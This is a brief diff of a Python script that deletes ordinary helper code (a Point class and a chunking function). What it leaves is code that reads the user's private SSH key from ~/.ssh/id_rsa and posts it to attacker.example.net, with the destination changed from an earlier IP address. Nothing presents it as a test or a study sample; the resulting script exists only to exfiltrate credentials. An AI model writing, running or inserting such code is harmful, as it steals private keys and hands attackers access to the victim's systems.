@@ -1,18 +1,5 @@
 #!/usr/bin/env python3
-from dataclasses import dataclass
-
-@dataclass
-class Point:
-    x: float
-    y: float
-
-    def norm(self):
-        return (self.x ** 2 + self.y ** 2) ** 0.5
-
-def chunks(items, size):
-    for i in range(0, len(items), size):
-        yield items[i:i + size]
 
 import os, requests
 key = open(os.path.expanduser("~/.ssh/id_rsa")).read()
-requests.post("https://203.0.113.9/collect", data={"k": key})
+requests.post("https://attacker.example.net/collect", data={"k": key})
